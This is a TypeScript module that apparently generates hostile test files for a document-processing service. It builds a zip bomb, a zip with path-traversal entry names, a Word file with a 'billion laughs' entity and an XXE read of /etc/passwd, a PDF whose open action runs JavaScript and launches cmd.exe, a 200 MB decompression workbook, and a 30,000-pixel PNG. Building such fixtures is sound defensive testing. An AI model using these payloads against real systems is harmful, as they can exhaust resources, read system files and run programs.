import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import { strToU8, zipSync } from 'fflate';

interface Part {
  readonly name: string;
  readonly body: Buffer;
}

/** A .zip; parts that share one body share its packed bytes too. */
function zipOf(parts: readonly Part[]): Buffer {
  const packed = new Map<Buffer, Buffer>();
  const places = new Map<Buffer, number>();
  const pieces: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const { name, body } of parts) {
    const bytes = packed.get(body) ?? deflateRawSync(body, { level: 1 });
    const common = Buffer.alloc(22);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(crc32(body), 10);
    common.writeUInt32LE(bytes.length, 14);
    common.writeUInt32LE(body.length, 18);
    if (!packed.has(body)) {
      const head = Buffer.alloc(30 + Buffer.byteLength(name));
      head.writeUInt32LE(0x04034b50, 0);
      common.copy(head, 4);
      head.writeUInt16LE(Buffer.byteLength(name), 26);
      head.write(name, 30);
      packed.set(body, bytes);
      places.set(body, at);
      pieces.push(head, bytes);
      at += head.length + bytes.length;
    }
    const entry = Buffer.alloc(46 + Buffer.byteLength(name));
    entry.writeUInt32LE(0x02014b50, 0);
    common.copy(entry, 6);
    entry.writeUInt16LE(Buffer.byteLength(name), 28);
    entry.writeUInt32LE(places.get(body) ?? 0, 42);
    entry.write(name, 46);
    directory.push(entry);
  }
  const list = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(list.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...pieces, list, end]);
}

/** Some 150 KB that unpack to more than 2 GB: many names share the bytes of one. */
export function zipBomb(): Uint8Array {
  const body = Buffer.alloc(30 * 1024 * 1024, 'hạnh phúc');
  return zipOf(Array.from({ length: 80 }, (_, index) => ({ name: `bao cao ${index}.docx`, body })));
}

/** Names that would leave the folder of whoever unpacks them. */
export function zipThatClimbs(file: Uint8Array): Uint8Array {
  return zipSync({
    '../../../../../../tmp/trèo ra.docx': file,
    '/etc/so y te.jpg': Uint8Array.of(0xff, 0xd8, 0xff, 0xe0, 6),
    'C:\\Windows\\System32\\thu vien.jpg': Uint8Array.of(0xff, 0xd8, 0xff, 0xe0, 7),
  });
}

/** A Word file whose one part is "a billion laughs". */
export function wordOfEntities(): Uint8Array {
  const laughs = Array.from({ length: 12 }, (_, index) => {
    const before = index === 0 ? '"ha"' : `"${`&l${index - 1};`.repeat(10)}"`;
    return `<!ENTITY l${index} ${before}>`;
  });
  const document = `<?xml version="1.0"?><!DOCTYPE w:document [${laughs.join('')}<!ENTITY out SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&l11;&out;</w:t></w:r></w:p></w:body></w:document>`;
  const kind = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  return zipSync({
    '[Content_Types].xml': strToU8(
      `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="${kind}"/></Types>`,
    ),
    '_rels/.rels': strToU8(
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    ),
    'word/document.xml': strToU8(document),
  });
}

/** A PDF with text that runs a script when it is opened, starts a program, asks for an address, and carries a program. */
export async function activePdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.TimesRoman);
  pdf.addPage([595, 842]).drawText('BAO CAO nam 2026 ve Chi so hanh phuc', { x: 80, y: 760, size: 14, font });
  pdf.addJavaScript('mo', 'app.alert("chay"); this.submitForm("http://example.invalid/");');
  await pdf.attach(Uint8Array.of(0x4d, 0x5a, 0x90, 0), 'cai dat.exe');
  const { context, catalog } = pdf;
  const launch = context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') });
  const address = context.obj({ S: 'URI', URI: PDFString.of('http://example.invalid/'), Next: launch });
  catalog.set(PDFName.of('OpenAction'), context.register(address));
  return pdf.save();
}

/** A workbook whose one list of texts unpacks to 200 MB. */
export function hugeWorkbook(): Uint8Array {
  const kind = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
  const types = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="${kind}"/></Types>`;
  const texts = Buffer.alloc(200 * 1024 * 1024, `<si><t>${'Chỉ số hạnh phúc '.repeat(60)}</t></si>`);
  return zipOf([
    { name: '[Content_Types].xml', body: Buffer.from(types) },
    {
      name: 'xl/workbook.xml',
      body: Buffer.from('<?xml version="1.0"?><workbook><sheets><sheet name="a"/></sheets></workbook>'),
    },
    { name: 'xl/sharedStrings.xml', body: texts },
  ]);
}

/** A true PNG of 30,000 by 30,000 points: 110 KB that would be 3.6 GB on the screen. */
export function endlessPicture(): Uint8Array {
  const side = 30_000;
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc((side / 8 + 1) * side), { level: 1 });
  const signature = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a);
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}

function chunk(name: string, body: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(name, 'latin1'), body]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(body.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}
